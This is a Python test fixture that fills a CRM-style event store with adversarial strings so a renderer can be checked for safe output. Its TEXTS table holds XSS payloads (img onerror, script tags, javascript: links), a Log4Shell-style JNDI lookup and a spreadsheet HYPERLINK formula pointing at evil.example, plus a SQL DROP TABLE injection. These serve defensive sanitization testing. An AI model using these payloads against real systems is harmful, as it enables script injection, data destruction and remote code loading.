"""A firm whose customers, promises, reasons and suppliers write whatever a page might take for a sign.

`laid(home, now)` records it into a real home: everything that the doors let in. What they refuse (control characters,
direction overrides) is tried on `look.plain` alone.
"""

from __future__ import annotations

from datetime import datetime, timedelta
from pathlib import Path
from typing import Any, Final

from domain.vocabulary import parse
from wiring.home import open_home
from wiring.worker import run_tick

TEXTS: Final = {
    "html": '<b>fett</b> <img src="http://evil.example/a.png" onerror="document.title=\'HACKED\'">',
    "script": "<script>document.title='HACKED'</script> </div></p>",
    "marks": "**fett** _kursiv_ ~~weg~~ `code` # Titel ## - * + 1. > x | y | ---",
    "links": "[hier](https://evil.example/x) ![bild](https://evil.example/y.png) [a]: https://evil.example",
    "addresses": "https://evil.example/z www.evil.example mail@evil.example http://evil.example",
    "javascript": "[klick](javascript:document.title='HACKED') <javascript:alert(1)>",
    "formula": "$x^2$ $$\\frac{a}{b}$$ \\(y\\) 5 $ und 6 $",
    "icons": ":material/delete: :streamlit: :smile: :+1: :red: :heart:",
    "directives": ":red[rot] :orange-badge[neu] :small[klein] :blue-background[b] ::: :color[x]{foreground=red}",
    "arrows": "-> <- <-> -- --- >= <= ~= ... (c) (tm)",
    "places": "{name} {0} {n} {} {{7*7}} %s %(x)d ${jndi:ldap://evil.example} {t.gettext}",
    "cells": '=HYPERLINK("http://evil.example","x") +1 -1 @SUM(A1)',
    "quotes": "'; DROP TABLE customers; -- \" \\ / \\n &amp; &lt;b&gt; &#65;",
    "rtl": "\u0645\u0631\u062d\u0628\u0627 123 \u05e9\u05dc\u05d5\u05dd a\u200bb\u200dc\ufeffd e\u0301\u0323",
    "word": "Donaudampfschifffahrtsgesellschaft" * 5,
    "list": "1. eins",
    "task": "[x] getan [ ] offen [^1] ==hell== ^hoch^ :-) \u263a\ufe0f \U0001f600",
}
"""Each fits into a name."""
LONG: Final = "Wort<b> " * 1200
"""For what may be long."""
MUST_NOT_BE: Final = "HACKED"


def _facts(now: datetime) -> list[dict[str, Any]]:
    facts: list[dict[str, Any]] = []

    def fact(type: str, ago: timedelta, source_id: str, **data: Any) -> None:
        at = (now - ago).isoformat()
        facts.append({"specversion": "1.0", "source": "crm", "id": source_id, "type": type, "time": at, "data": data})

    day, hour = timedelta(days=1), timedelta(hours=1)
    for number, (name, text) in enumerate(TEXTS.items()):
        customer, made = f"K{number} {text}"[:280], (30 + number) * day
        who = {"by": f"{name} {text}"[:190]}
        supplier = {"supplier": text, "product": text}
        fact("customer.registered", made, f"{name}/c", customer=customer, name=text, owner=who["by"])
        kept, open_, late = (f"{name}-{n} {text}"[:280] for n in (1, 2, 3))
        due = (now - made + 2 * day).isoformat()
        said = {"customer": customer, "kind": "delivery", **who, **supplier}
        fact("promise.made", made - hour, f"{name}/p1", promise=kept, due=due, what=f"{text} {LONG}"[:490], **said)
        fact("promise.fulfilled", made - 3 * day, f"{name}/f1", promise=kept, evidence=text)
        soon = (now + timedelta(hours=3 + number)).isoformat()
        fact("promise.made", 2 * day, f"{name}/p2", promise=open_, due=soon, what=text, plan_b=text, **said)
        gone = (now - timedelta(hours=5 + number)).isoformat()
        fact("promise.made", 6 * day, f"{name}/p3", promise=late, due=gone, what=text, **said)
        moved = {"due": (now - timedelta(hours=4 + number)).isoformat(), "reason": text, "alternative": text}
        fact("promise.renegotiated", 5 * day, f"{name}/m3", promise=late, **moved)
        fact(
            "contact.inbound", 3 * day, f"{name}/q", contact=f"{name} {text}"[:280], customer=customer, channel="phone"
        )
        incident = f"{name}-i {text}"[:280]
        fact("incident.reported", 4 * day, f"{name}/i", incident=incident, customer=customer, kind="product_claim",
             text=f"{text} {LONG}"[:9000], **who, **supplier)  # fmt: skip
        fact("incident.explained", 4 * day - hour, f"{name}/i1", incident=incident, **who)
        fact("request.declined", 9 * day, f"{name}/d", customer=customer, what=text, reason=text, **who)
        fact("feedback.given", 8 * day, f"{name}/fb", customer=customer, score=2, text=text)
    fact("fact.retracted", hour, "gone", retracts={"source": "crm", "id": "html/d"}, reason=TEXTS["html"])
    return facts


def laid(folder: Path, now: datetime) -> None:
    """Records it all into a new home, and raises the alerts of now."""
    konto = open_home(folder, environment={}, clock=lambda: now, prepare=True)
    receipts = konto.record([parse(each, now=now) for each in _facts(now)])
    assert [str(each.refused) for each in receipts if each.refused] == []
    konto.catch_up()
    run_tick(konto)
    konto.catch_up()
    konto.close()
